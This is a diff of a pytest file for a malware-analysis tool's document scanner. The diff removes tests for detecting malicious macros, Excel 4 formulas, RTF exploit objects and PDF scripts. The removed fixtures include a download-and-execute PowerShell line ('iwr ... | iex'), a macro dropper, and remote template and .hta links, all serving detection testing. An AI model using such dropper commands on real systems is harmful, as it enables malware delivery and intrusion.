@@ -1,131 +1,17 @@
-"""The worker `documents` finds macros, relations, commands, locks and orders in documents and shortcuts of each format."""
+"""The worker `documents` finds relations, commands and metadata in documents of each format."""
 
 from collections.abc import Mapping
-from uuid import UUID
 
-import pikepdf
 import pytest
 
 from samplebank.web.results import Group, Table, draw
 from samplebank.worker.analysers.documents.schema import SCHEMA
-from samplebank.worker.analysers.documents.vba_source import unpacked
-from samplebank.worker.contract import NO_FINDINGS, Rejected, Result
+from samplebank.worker.contract import NO_FINDINGS, Rejected
 from worker import made_documents as made
 from worker.conftest import Extract
-from worker.documents import DDE, DROPPER, PDF_ACTIONS, WORKBOOKS, found, tags
+from worker.documents import DDE, DROPPER, evidence, found, tags
 from worker.made_containers import zipped
 from worker.made_images import compound
-
-CLEAN_MACRO = 'Sub Total()\r\nRange("A1").Value = 7\r\nEnd Sub'
-
-
-def evidence(result: Result, name: str) -> str:
-    return next(one.data.decode() for one in result.evidence if one.file_name == name)
-
-
-# -- macros
-
-
-@pytest.mark.parametrize("make", [made.docm, made.text_with_macros], ids=["docm", "doc"])
-async def test_the_source_of_macros_is_evidence_and_their_acts_are_findings(
-    documents: Extract, make: object
-) -> None:
-    result = await documents(make(Main=DROPPER))  # type: ignore[operator]
-
-    assert DROPPER in evidence(result, "macros.vba")
-    assert found(result) >= {"macros", "macro-autostart", "macro-runs-programs", "macro-downloads"}
-    assert result.score >= 70
-    assert {"macro", "downloader", "attack.t1059.005", "attack.t1105"} <= tags(result)
-    (macro,) = result.result["macros"]
-    assert (macro["name"], macro["autostart"]) == ("Main", ["AutoOpen"])
-    assert result.result["iocs"]["urls"][0]["defanged"] == "hxxp://203[.]0[.]113[.]7/x"
-
-
-async def test_rules_scan_the_source_of_macros(documents: Extract) -> None:
-    eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
-
-    result = await documents(made.docm(Main=eicar))
-
-    (rule,) = result.result["rules"]
-    assert (rule["where"], result.score) == ("macros", rule["score"])
-    assert rule["rule"] in {tag.value for tag in result.tags if tag.type == "yara"}
-
-
-STARTING = {"AutoOpen", "auto_open", "Workbook_Open", "Document_Close", "InkPicture1_Painted"}
-
-
-@pytest.mark.parametrize("name", sorted({*STARTING, "File_Open", "CommandButton1_Click", "UserForm_Layout"}))
-async def test_only_names_that_run_by_themselves_are_told(documents: Extract, name: str) -> None:
-    result = await documents(made.docm(Main=f"Private Sub {name}()\r\nx = 1\r\nEnd Sub"))
-
-    assert ("macro-autostart" in found(result)) == (name in STARTING)
-
-
-async def test_what_a_macro_hides_is_peeled(documents: Extract) -> None:
-    order = f"powershell iwr {made.HOST}/a | iex"
-    codes = " & ".join(f"Chr({ord(character)})" for character in order)
-
-    result = await documents(
-        made.docm(Main=f"Sub AutoOpen()\r\nx = {codes}\r\nCallByName o, f, 1, x\r\nEnd Sub")
-    )
-
-    assert order in evidence(result, "macros-peeled.txt")
-    assert found(result) >= {"macro-autostart", "macro-is-disguised", "macro-runs-programs"}
-    assert result.result["iocs"]["urls"][0]["value"] == f"{made.HOST}/a"
-
-
-async def test_a_macro_that_does_nothing_of_note_gets_no_score(documents: Extract) -> None:
-    result = await documents(made.docm(Main=CLEAN_MACRO))
-
-    assert (result.score, found(result)) == (NO_FINDINGS, {"macros"})
-
-
-async def test_words_that_only_the_compiled_macro_has_tell_of_stomping(documents: Extract) -> None:
-    streams = made.project({"Main": CLEAN_MACRO}, compiled=b"\0Shell\0\0AutoOpen\0\0CreateObject\0")
-
-    result = await documents(zipped({**made.TYPES, "word/vbaProject.bin": compound(streams)}))
-
-    assert "macro-is-stomped" in found(result)
-
-
-async def test_macros_of_a_damaged_project_are_found_by_their_first_bytes(documents: Extract) -> None:
-    streams = made.project({"Main": DROPPER})
-    streams["VBA/dir"] = b"\xff" * 100
-
-    result = await documents(compound({"WordDocument": b"\xec\xa5" + bytes(30), **streams}))
-
-    assert "URLDownloadToFile" in evidence(result, "macros.vba")
-
-
-def test_the_example_of_the_specification_is_unpacked() -> None:
-    container = bytes.fromhex(
-        "012FB00023616161626364658266007061676869 6A013808616B6C00306D6E6F700671027004107273747576107778797A003C"
-    )
-
-    assert unpacked(container) == b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"
-
-
-# -- Excel 4
-
-
-@pytest.mark.parametrize("kind", WORKBOOKS)
-async def test_excel_4_macros_are_spelled(documents: Extract, kind: str) -> None:
-    result = await documents(WORKBOOKS[kind])
-
-    (cell,) = result.result["excel4"]["cells"]
-    assert cell["formula"] == '=EXEC("calc.exe")'
-    assert cell["cell"] == ("A1" if kind == "xlsm" else "B3")
-    assert found(result) >= {"excel4-macros", "excel4-autostart", "excel4-runs-programs"}
-    assert ("excel4-hidden-sheet" in found(result)) == (kind == "hidden xls")
-    assert result.score >= 70
-    assert '=EXEC("calc.exe")' in evidence(result, "excel4.txt")
-
-
-async def test_a_command_of_excel_4_is_spelled_by_its_name(documents: Extract) -> None:
-    result = await documents(made.xls(made.call(made.ALERT | made.COMMAND, "hello", "1")))
-
-    assert result.result["excel4"]["cells"][0]["formula"] == '=ALERT("hello","1")'
-
 
 # -- relations to the outside
 
@@ -213,16 +99,6 @@ DDE_FILES: Mapping[str, bytes] = {
 }  # fmt: skip
 
 
-async def test_a_formula_names_what_it_refers_to_where_two_sheets_have_a_name_alike(
-    documents: Extract,
-) -> None:
-    third = b"\x23" + (3).to_bytes(4, "little")
-
-    result = await documents(made.xlsb(third, names=("Same", "Same", "Third")))
-
-    assert result.result["excel4"]["cells"][0]["formula"] == "=Third"
-
-
 @pytest.mark.parametrize("kind", DDE_FILES)
 async def test_a_command_by_dde_is_found_however_the_command_is_split(documents: Extract, kind: str) -> None:
     result = await documents(DDE_FILES[kind])
@@ -237,115 +113,6 @@ async def test_a_command_by_dde_is_found_however_the_command_is_split(documents:
 )
 async def test_texts_that_only_look_like_a_command_are_none(documents: Extract, text: bytes) -> None:
     assert found(await documents(text)) == set()
-
-
-# -- objects and RTF
-
-
-async def test_the_overrun_of_the_equation_editor_is_told(documents: Extract) -> None:
-    container = compound({"Equation Native": made.overrunning_equation()})
-
-    result = await documents(made.rtf_object("Equation.3", container))
-
-    assert "equation-exploit" in found(result)
-    assert result.score >= 80
-
-
-async def test_an_object_of_rtf_in_bytes_is_read_as_one_in_digits(documents: Extract) -> None:
-    container = compound({"Equation Native": made.overrunning_equation()})
-
-    result = await documents(made.in_bytes(made.rtf_object("Equation.3", container)))
-
-    assert "equation-exploit" in found(result)
-
-
-@pytest.mark.parametrize("kind", made.SMUGGLED)
-async def test_an_object_of_rtf_is_read_behind_every_trick(documents: Extract, kind: str) -> None:
-    container = compound({"Equation Native": made.overrunning_equation()})
-
-    result = await documents(made.SMUGGLED[kind](made.rtf_object("Equation.3", container)))
-
-    assert "equation-exploit" in found(result)
-
-
-async def test_objects_in_rtf_are_told_by_their_class_and_disguise(documents: Extract) -> None:
-    stream = made.address_moniker(f"{made.HOST}/a.hta")
-
-    result = await documents(made.rtf_object("OLE2Link", stream, words="\\objupdate", disguise=True))
-
-    assert result.result["objects"][0]["class"] == "OLE2Link"
-    assert found(result) >= {"rtf-is-disguised", "remote-object", "object-updates-itself"}
-
-
-@pytest.mark.parametrize(
-    "moniker", ["ecabb0c7-7f19-11d2-978e-0000f8757e2a", "06290bd3-48aa-11d2-8432-006008c3fbfc"]
-)
-async def test_a_moniker_that_runs_a_script_is_told(documents: Extract, moniker: str) -> None:
-    result = await documents(made.rtf_object("OLE2Link", bytes(20) + UUID(moniker).bytes_le))
-
-    assert "remote-script" in found(result)
-
-
-async def test_a_template_of_rtf_is_found_in_disguise(documents: Extract) -> None:
-    result = await documents(rb"{\rtf1{\*\template \u104?ttp://203.0.113.7/a.dotm}text}")
-
-    assert found(result) == {"remote-template"}
-
-
-# -- PDF
-
-
-@pytest.mark.parametrize(("action", "findings"), PDF_ACTIONS)
-async def test_an_action_of_a_pdf_document_is_told(
-    documents: Extract, action: dict[str, object], findings: set[str]
-) -> None:
-    result = await documents(made.pdf(action, opens=True))
-
-    assert found(result) == findings
-    assert result.result["metadata"]["creator"] == "Ada"
-
-
-@pytest.mark.parametrize("place", ["annotation", "names", "next"])
-async def test_an_action_inside_of_another_object_of_a_pdf_document_is_told(
-    documents: Extract, place: str
-) -> None:
-    result = await documents(made.pdf_with_action_inside(place))
-
-    assert "pdf-launch" in found(result)
-
-
-async def test_a_damaged_script_of_a_pdf_document_hides_no_other_action(documents: Extract) -> None:
-    result = await documents(made.pdf_with_action_inside("annotation", first=b"no flate"))
-
-    assert "pdf-launch" in found(result)
-    assert result.result["problems"]
-
-
-async def test_the_script_of_an_event_of_a_page_runs_by_itself(documents: Extract) -> None:
-    script = {"S": pikepdf.Name.JavaScript, "JS": pikepdf.String("app.alert(1)")}
-
-    result = await documents(made.pdf(script, on_page=True))
-
-    assert found(result) == {"pdf-script", "pdf-script-autostart"}
-
-
-@pytest.mark.parametrize("in_parts", [False, True], ids=["one part", "parts"])
-async def test_the_scripts_of_a_form_of_a_pdf_document_are_read(
-    documents: Extract, *, in_parts: bool
-) -> None:
-    script = f'this.exportDataObject({{nLaunch: 2}}); app.launchURL("{made.HOST}")'
-
-    result = await documents(made.pdf_with_form(script, in_parts=in_parts))
-
-    assert [entry["text"] for entry in result.result["scripts"]] == [script]
-    assert found(result) == {"pdf-script", "pdf-opens-attachment"}
-
-
-async def test_a_link_to_click_in_a_pdf_document_is_listed_only(documents: Extract) -> None:
-    result = await documents(made.pdf({"S": pikepdf.Name.URI, "URI": pikepdf.String(made.HOST)}))
-
-    assert result.result["hyperlinks"][0]["target"] == made.HOST
-    assert (result.score, found(result)) == (NO_FINDINGS, set())
 
 
 # -- OpenDocument, metadata, and all else
